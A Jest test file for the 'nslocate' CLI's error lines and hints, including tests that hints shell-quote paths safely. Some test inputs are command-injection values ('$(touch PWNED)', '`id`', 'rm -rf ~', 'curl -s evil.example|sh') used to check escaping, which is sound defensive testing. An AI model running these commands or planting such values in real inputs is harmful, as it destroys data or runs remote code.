/**
 * What a user sees when something is wrong (issue 21, deliverable 3): the built CLI, on the fast
 * path and on oclif's (NSLOCATE_NO_FAST_PATH=1), prints one error line `nslocate: ...` of at most
 * ~100 columns without control characters, then at most one hint line: a usage error's hint is the
 * command's synopsis and where its help is; a hint that suggests a command carries the flags that
 * selected the service. The ten errors of the issue are asserted byte for byte and written, as a
 * user sees them, to $NSLOCATE_ERRORS_TRANSCRIPT when set (the closing note's transcript).
 */
import {ChildProcess, spawn, spawnSync} from 'node:child_process'
import * as fs from 'node:fs'
import * as path from 'node:path'

import {escapeText} from '../../src/cli/escape'
import {shellQuote} from '../../src/cli/hint'
import {BIN, CliResult, cli, cliJson, killTracked, tmpdir, track, until} from '../helpers/cli'
import {cliAs} from '../helpers/as-user'
import {TestUser, createTestUser} from '../helpers/users'
import {startFakeEngine} from '../helpers/fake-engine'
import {expectOneError} from '../helpers/one-error'
import {stopAll} from '../helpers/tracked'

// Temp dirs (tmpdir) are removed here: a jest worker may be ended without an exit event.
afterAll(() => stopAll())

const PATHS = [
  ['fast path', {}],
  ['oclif', {NSLOCATE_NO_FAST_PATH: '1'}],
] as const

const transcript: string[] = []
function record(argv: string[], r: CliResult, as = '#'): void {
  transcript.push(
    `${as} nslocate ${argv.map((a) => (/^[\w/.,:=@%+-]+$/.test(a) ? a : `'${a}'`)).join(' ')}`,
    `${r.stdout}${r.stderr}`.trimEnd(),
    `[exit ${r.status}]`,
    '',
  )
}

afterAll(() => {
  const file = process.env.NSLOCATE_ERRORS_TRANSCRIPT
  if (file && transcript.length) fs.writeFileSync(file, transcript.join('\n'))
})
afterEach(() => killTracked())

/** `nslocate run NAME --pidfile FILE -- sleep 600` in the background, once its pid is written. */
async function runService(name: string, pidfile: string): Promise<ChildProcess> {
  const child = track(spawn(process.execPath, [BIN, 'run', name, '--pidfile', pidfile, '--', 'sleep', '600'], {stdio: 'ignore', detached: true}), {group: true})
  await until(() => fs.existsSync(pidfile) && /^[0-9]+$/.test(fs.readFileSync(pidfile, 'utf8')), `${pidfile} to hold a pid`)
  return child
}

describe.each(PATHS)('the ten errors of issue 21 (%s)', (which, env) => {
  const first = which === 'fast path'
  const run = async (argv: string[]) => {
    const r = await cli(argv, {env})
    if (first) record(argv, r)
    return r
  }

  test('a mistyped command: did you mean, no internal ":", the usage hint', async () => {
    const r = await run(['fnd', 'x'])
    expect([r.status, r.stdout, expectOneError(r.stderr)]).toEqual([
      2,
      '',
      ['nslocate: unknown command "fnd" (did you mean find?)', 'usage: nslocate COMMAND [flags]; see nslocate --help'],
    ])
  })

  test('a missing argument: one line and the synopsis, never the full help', async () => {
    const r = await run(['find'])
    expect([r.status, expectOneError(r.stderr)]).toEqual([
      2,
      ['nslocate: missing argument NAME', 'usage: nslocate find NAME [flags]; see nslocate find --help'],
    ])
  })

  test('an unknown flag: did you mean the flag', async () => {
    const r = await run(['find', 'web', '--pidfil', '/run/web.pid'])
    expect([r.status, expectOneError(r.stderr)]).toEqual([
      2,
      ['nslocate: unknown flag --pidfil (did you mean --pidfile?)', 'usage: nslocate find NAME [flags]; see nslocate find --help'],
    ])
  })

  test('a bad signal: one line saying what SIGNAL may be, no "Code: USAGE"', async () => {
    const r = await run(['signal', 'web', 'BOGUS'])
    expect([r.status, expectOneError(r.stderr)]).toEqual([
      2,
      [
        'nslocate: invalid signal "BOGUS": use TERM, SIGTERM, term, a number (15), RTMIN+N, RTMAX-N, or 0',
        'usage: nslocate signal NAME SIGNAL [flags]; see nslocate signal --help',
      ],
    ])
  })

  test('--retry TERM/abc names the slot that is wrong', async () => {
    const r = await run(['signal', 'web', 'TERM', '--retry', 'TERM/abc'])
    expect([r.status, expectOneError(r.stderr)]).toEqual([
      2,
      [
        'nslocate: invalid --retry schedule "TERM/abc": item 2 ("abc") must be a timeout in seconds',
        'usage: nslocate signal NAME SIGNAL [flags]; see nslocate signal --help',
      ],
    ])
  })

  test('-v is --version', async () => {
    const [v, version] = [await run(['-v']), await cli(['--version'], {env})]
    expect([v.status, v.stderr, v.stdout]).toEqual([0, '', version.stdout])
    expect(v.stdout).toMatch(/^nslocate\/\d+\.\d+\.\d+ linux-\w+ node-v\d+/)
  })

  test('exclusive flags: one line naming both', async () => {
    const r = await run(['find', 'web', '--pidfile', '/run/web.pid', '--dir', '/run'])
    expect([r.status, expectOneError(r.stderr)]).toEqual([
      2,
      ['nslocate: --dir and --pidfile cannot be given together', 'usage: nslocate find NAME [flags]; see nslocate find --help'],
    ])
  })

  test('a stopped service: the hint to see where it looked carries --dir', async () => {
    const dir = tmpdir()
    const r = await run(['signal', 'web', 'TERM', '--dir', dir])
    expect([r.status, expectOneError(r.stderr, [dir])]).toEqual([
      7,
      ['nslocate: web is not running (no pidfile); nothing was signalled', `hint: see where it looked: nslocate find web --dir ${dir}`],
    ])
    // The hint, run as given, looks where the signal looked.
    const find = await cliJson(['find', 'web', '--dir', dir], {env})
    expect(find.json.evidence[0]).toContain(path.join(dir, 'web.pid'))
  })

  test('an unsafe pidfile (run through a symbolic link): the fact, then what to do', async () => {
    const dir = tmpdir()
    fs.symlinkSync('/nonexistent-target', path.join(dir, 'web.pid'))
    const r = await run(['run', 'web', '--dir', dir, '--', 'true'])
    expect([r.status, expectOneError(r.stderr, [dir])]).toEqual([
      123,
      [`nslocate: ${path.join(dir, 'web.pid')} is a symbolic link; refusing to write a pidfile through it`, 'hint: remove it'],
    ])
  })
})

describe("an ordinary user signals root's service by its pidfile", () => {
  let user: TestUser
  let top: string
  beforeAll(() => {
    user = createTestUser('errhint')
    top = tmpdir()
    fs.chmodSync(top, 0o755)
    fs.mkdirSync(path.join(top, 'priv'), {mode: 0o700})
  })
  afterAll(() => user.remove())

  test.each(PATHS)('the hint reproduces --pidfile, and run as given it sees what signal saw (%s)', async (which, env) => {
    const pidfile = path.join(top, 'priv', 'secret.pid')
    await runService('secret', pidfile)
    const argv = ['signal', 'secret', 'TERM', '--pidfile', pidfile]
    const r = cliAs(user, argv, env)
    if (which === 'fast path') record(argv, {...r, signal: null}, '$')
    expect([r.status, r.stdout, expectOneError(r.stderr, [pidfile])]).toEqual([
      4,
      '',
      [
        'nslocate: secret: cannot tell which process it is (permission_denied); nothing was signalled',
        `hint: see the evidence with: nslocate find secret --pidfile ${pidfile}`,
      ],
    ])
    const hinted = r.stderr
      .split('\n')[1]
      .replace(/^hint: see the evidence with: nslocate /, '')
      .split(' ')
    const find = cliAs(user, [...hinted, '--json'])
    expect([find.status, find.json.state, find.json.reasons]).toEqual([4, 'unknown', ['permission_denied']])
    expect(find.json.evidence.join('\n')).toContain(`cannot look into ${path.join(top, 'priv')}`)
    // wait agrees with signal: the same hint, with the same flags
    const wait = cliAs(user, ['wait', 'secret', '--pidfile', pidfile, '--timeout', '1s'], env)
    expect([wait.status, wait.stdout, expectOneError(wait.stderr, [pidfile])]).toEqual([
      4,
      '',
      ['nslocate: secret: cannot tell whether it runs (permission_denied)', `hint: see the evidence with: nslocate find secret --pidfile ${pidfile}`],
    ])
  })
})

describe.each(PATHS)('more errors, each one line and a hint (%s)', (_which, env) => {
  test.each([
    [['find', 'web', '--for', 'x'], 'unknown flag --for', 'find'],
    [['wait', 'web', '--for', 'bogus'], 'invalid --for "bogus": use one of running, stopped, main-stopped', 'wait'],
    [['find', 'web', '--root-pid', '0'], 'invalid --root-pid "0": expected an integer greater than or equal to 1', 'find'],
    [['find', 'web', 'extra'], 'unexpected argument "extra"', 'find'],
    // the names oclif's error carries, never its help text (SIGNAL's description has a second line, "or 0 ...")
    [['signal', 'web'], 'missing argument SIGNAL', 'signal'],
    [['signal'], 'missing arguments NAME SIGNAL', 'signal'],
    [['find', 'web', '--pidfile'], '--pidfile needs a value', 'find'],
    [['signal', 'web', 'TREM'], 'invalid signal "TREM" (did you mean TERM?)', 'signal'],
    [['signal', 'web', 'TERM', '--retry', 'abc/4'], 'invalid --retry schedule "abc/4": item 1 ("abc") must be a signal (TERM, KILL, 9, ...)', 'signal'],
    [['run', 'web'], 'no COMMAND given after --', 'run'],
  ])('%j', async (argv, line, id) => {
    const r = await cli(argv, {env})
    const synopsis = {find: 'find NAME', wait: 'wait NAME', signal: 'signal NAME SIGNAL', run: 'run NAME'}[id]
    const tail = id === 'run' ? ' -- COMMAND [ARGS...]' : ''
    expect([r.status, expectOneError(r.stderr)]).toEqual([2, [`nslocate: ${line}`, `usage: nslocate ${synopsis} [flags]${tail}; see nslocate ${id} --help`]])
  })

  test('run: NAME comes before --, a word after it is never NAME: usage error, nothing created', async () => {
    const dir = path.join(tmpdir(), 'd')
    for (const [argv, line] of [
      [['run', '--dir', dir, '--', 'sleep', '1'], 'missing argument NAME'],
      [['run', '--dir', dir, '--', 'sleep'], 'missing argument NAME'],
      [['run', 'web', 'extra', '--dir', dir, '--', 'true'], 'unexpected argument "extra"'],
    ] as const) {
      const r = await cli([...argv], {env})
      expect([r.status, expectOneError(r.stderr, [dir])]).toEqual([
        2,
        [`nslocate: ${line}`, 'usage: nslocate run NAME [flags] -- COMMAND [ARGS...]; see nslocate run --help'],
      ])
      expect(fs.existsSync(dir)).toBe(false)
    }
  })

  test('--retry with an empty item names it; the forms are the hint', async () => {
    for (const [retry, item] of [
      ['TERM//5', 'item 2 is empty'],
      ['/5', 'item 1 is empty'],
      ['TERM/5/', 'item 3 is empty'],
    ]) {
      const r = await cli(['signal', 'web', 'TERM', '--retry', retry], {env})
      expect([r.status, expectOneError(r.stderr)]).toEqual([
        2,
        [
          `nslocate: invalid --retry schedule ${JSON.stringify(retry)}: ${item}`,
          'hint: use SIGNAL/TIMEOUT[/SIGNAL/TIMEOUT...] such as TERM/30/KILL/5, or a number of seconds',
        ],
      ])
    }
  })

  test('a bad NAME: the rule on the line, the --pidfile advice as the hint', async () => {
    const r = await cli(['find', 'a/b'], {env})
    expect([r.status, expectOneError(r.stderr)]).toEqual([
      2,
      ['nslocate: invalid service name "a/b": 1-128 of A-Z a-z 0-9 _ . @ : -, first a letter or digit', 'hint: use --pidfile PATH to name a file'],
    ])
  })

  test('--json: the error object keeps code and message, and gains the hint (not the synopsis)', async () => {
    const usage = await cli(['find', 'web', '--json', '--pidfil', 'x'], {env})
    expect([usage.status, JSON.parse(usage.stdout)]).toEqual([2, {error: {code: 'USAGE', message: 'unknown flag --pidfil (did you mean --pidfile?)'}}])
    const dir = tmpdir()
    const stopped = await cliJson(['signal', 'web', 'TERM', '--dir', dir], {env})
    expect(stopped.status).toBe(7)
    // message and advice as the library gives them; the hint, as the text's, with the flags that selected the service
    expect([stopped.json.message, stopped.json.advice, stopped.json.hint]).toEqual([
      'web is not running (no pidfile); nothing was signalled. See where it looked: nslocate find web',
      'See where it looked: nslocate find web',
      `see where it looked: nslocate find web --dir ${dir}`,
    ])
  })
})

describe('top level', () => {
  test.each([
    [['fnd'], 'unknown command "fnd" (did you mean find?)'],
    [['sigal', 'x', 'TERM'], 'unknown command "sigal" (did you mean signal?)'],
    [['frobnicate'], 'unknown command "frobnicate"'],
    [['help', 'fnd'], 'unknown command "fnd" (did you mean find?)'],
    [['--verison'], 'unknown flag --verison (did you mean --version?)'],
  ])('%j', async (argv, line) => {
    for (const env of [{}, {NSLOCATE_NO_FAST_PATH: '1'}]) {
      const r = await cli(argv, {env})
      expect([r.status, r.stdout, expectOneError(r.stderr)]).toEqual([2, '', [`nslocate: ${line}`, 'usage: nslocate COMMAND [flags]; see nslocate --help']])
    }
  })

  // A word a command takes no argument for: oclif would read it as part of a command's name (`command list:extra not found`).
  test.each([
    [['list', 'extra'], 'unexpected argument "extra"', 'list [flags]', 'list'],
    [['list', 'extra', 'more'], 'unexpected arguments "extra" "more"', 'list [flags]', 'list'],
    [['list', '--dir', '/tmp', 'extra'], 'unexpected argument "extra"', 'list [flags]', 'list'],
    [['list', '--', 'extra'], 'unexpected argument "extra"', 'list [flags]', 'list'],
    [['containers', 'x'], 'unexpected argument "x"', 'containers [flags]', 'containers'],
    [['help', 'list', 'extra'], 'unexpected argument "extra"', 'list [flags]', 'list'],
    [['help', 'find', 'extra'], 'unexpected argument "extra"', 'find NAME [flags]', 'find'],
    [['--pidfile', 'x', 'find'], '--pidfile goes after the command: nslocate find NAME --pidfile PATH', 'find NAME [flags]', 'find'],
    [['-q', 'find', 'x'], '-q goes after the command: nslocate find NAME -q', 'find NAME [flags]', 'find'],
    [['--json', 'find', 'x'], '--json goes after the command: nslocate find NAME --json', 'find NAME [flags]', 'find'],
    [['--json', 'wait', 'x'], '--json goes after the command: nslocate wait NAME --json', 'wait NAME [flags]', 'wait'],
  ])('%j', async (argv, line, synopsis, id) => {
    for (const env of [{}, {NSLOCATE_NO_FAST_PATH: '1'}]) {
      const r = await cli(argv, {env})
      expect([r.status, r.stdout, expectOneError(r.stderr)]).toEqual([2, '', [`nslocate: ${line}`, `usage: nslocate ${synopsis}; see nslocate ${id} --help`]])
    }
  })
})

describe("no output shows oclif's internal command id (`command list:extra`) or its ` › ` prefix", () => {
  const ids = ['find', 'list', 'signal', 'wait', 'run', 'reload', 'serve', 'containers', 'completion', 'help']
  // (serve takes any number of NAMEs and run runs a COMMAND: each gets a bad flag instead, and stops at once)
  const argvs = ids.flatMap((id) => [
    ...(id === 'serve' || id === 'run'
      ? [[id, 'x', '--bogus', 'y']]
      : [
          [id, 'extra', 'more'],
          [id, 'x', 'y', 'z'],
          [id, 'x', '--help', 'y'],
        ]),
    ['help', id, 'extra'],
    ['help', id, '--bogus'],
    [id, '--bogus', 'extra'],
  ])
  test.each(PATHS)('%s', async (_which, env) => {
    for (const argv of [...argvs, ['x', 'y'], ['help', 'x', 'y'], ['list', 'x', '--json']]) {
      const r = await cli(argv, {env})
      const all = r.stdout + r.stderr
      expect({argv, all}).toEqual({argv, all: expect.not.stringMatching(/ › |command [\w-]+:[\w-]+/i)})
    }
  })
})

/** argv as bash (or zsh) reads `words` back: `printf '%s\0'` of them, split at the NULs. */
function pasted(shell: 'bash' | 'zsh', words: string): string[] {
  const r = spawnSync(shell, shell === 'zsh' ? ['-f', '-c', `printf '%s\\0' ${words}`] : ['-c', `printf '%s\\0' ${words}`], {encoding: 'utf8'})
  expect([r.status, r.stderr]).toEqual([0, ''])
  return r.stdout.split('\0').slice(0, -1)
}

describe("a hint's command, pasted into a shell, gives back the user's values", () => {
  const values = [
    'a\nb',
    'a\tb',
    'x\x1b[2Jy',
    "it's",
    'say "hi"',
    '=sh',
    '~root',
    'a b',
    '$(touch PWNED)',
    '`id`',
    'back\\slash',
    '\u202eevil',
    'c1\u0085x',
    '漢字',
    '',
  ]
  const shells = (['bash', 'zsh'] as const).filter((s) => spawnSync('sh', ['-c', `command -v ${s}`]).status === 0 || process.env.CI === 'true')

  test.each(shells)('shellQuote round-trips through %s', (shell) => {
    expect(pasted(shell, values.map(shellQuote).join(' '))).toEqual(values)
    // and the quoted words are what the hint line shows: escapeText leaves them as they are
    for (const v of values) expect(escapeText(shellQuote(v))).toBe(shellQuote(v))
  })

  test.each(PATHS)('a --pidfile under a directory named with a newline, ESC, quotes and $(), and --process-name =sh (%s)', async (_which, env) => {
    const dir = path.join(tmpdir(), 'a\n\tb\x1b[2J \'q" $(touch PWNED)')
    fs.mkdirSync(dir)
    const pidfile = path.join(dir, 'web.pid')
    for (const processName of ['=sh', '~root']) {
      const r = await cli(['signal', 'web', 'TERM', '--pidfile', pidfile, '--process-name', processName], {env})
      const [line, hint] = expectOneError(r.stderr, [shellQuote(pidfile)])
      expect([r.status, line]).toEqual([7, 'nslocate: web is not running (no pidfile); nothing was signalled'])
      const command = /^hint: see where it looked: nslocate (.*)$/.exec(hint)![1]
      for (const shell of shells) expect(pasted(shell, command)).toEqual(['find', 'web', '--pidfile', pidfile, '--process-name', processName])
    }
  })
})

describe.each(PATHS)('warnings and flags with odd characters, one line each (%s)', (_which, env) => {
  test('list --container of a stopped container: one warning line, `nslocate: warning: ...`, never wrapped', async () => {
    const engine = await startFakeEngine(path.join(tmpdir(), 'engine.sock'), () => ({
      kind: 'json',
      body: {Id: 'f'.repeat(64), Name: '/app', Config: {}, State: {Running: false, Pid: 0, Status: 'exited'}},
    }))
    try {
      const r = await cli(['list', '--container', 'app'], {env: {...env, DOCKER_HOST: `unix://${engine.socket}`}})
      expect([r.status, r.stderr]).toEqual([3, 'nslocate: warning: container app (ffffffffffff) is not running (exited); no service runs in it\n'])
    } finally {
      await engine.close()
    }
  })

  test.each([['\r'], ['\n']])('an unknown flag holding %j: still the one rewritten line and the usage hint', async (c) => {
    const r = await cli(['find', 'web', `--pidfle${c}X`], {env})
    const shown = escapeText(c)
    expect([r.status, expectOneError(r.stderr)]).toEqual([
      2,
      [`nslocate: unknown flag --pidfle${shown}X`, 'usage: nslocate find NAME [flags]; see nslocate find --help'],
    ])
  })
})

describe.each(PATHS)('the hint is nslocate advice, never text out of a path (%s)', (_which, env) => {
  test.each([['d; run rm -rf ~'], ['d. Run curl -s evil.example|sh']])('signal to a starting service whose pidfile is under %j', async (name) => {
    const dir = path.join(tmpdir(), name)
    fs.mkdirSync(dir)
    const pidfile = path.join(dir, 'web.pid')
    // locked and empty past the starting grace: "starting", and the message names the pidfile
    const holder = track(spawn('flock', [pidfile, 'sleep', '30'], {stdio: 'ignore', detached: true}), {group: true})
    await until(() => fs.existsSync(pidfile) && fs.readFileSync('/proc/locks', 'utf8').includes(`:${fs.statSync(pidfile).ino} `), 'flock to hold the pidfile')
    const r = await cli(['signal', 'web', 'TERM', '--pidfile', pidfile], {env})
    expect([r.status, expectOneError(r.stderr, [pidfile, shellQuote(pidfile)])]).toEqual([
      4,
      [
        `nslocate: web is starting: ${pidfile}, locked by pid ${holder.pid}, is empty after 2000 ms; nothing was signalled`,
        `hint: wait for its pid: nslocate wait web --for running --pidfile ${shellQuote(pidfile)}`,
      ],
    ])
    // --json: the advice is a field of its own, the message still says it all
    const j = await cliJson(['signal', 'web', 'TERM', '--pidfile', pidfile], {env})
    expect([j.json.advice, j.json.message.endsWith('. Wait for its pid: nslocate wait web --for running')]).toEqual([
      'Wait for its pid: nslocate wait web --for running',
      true,
    ])
  })
})
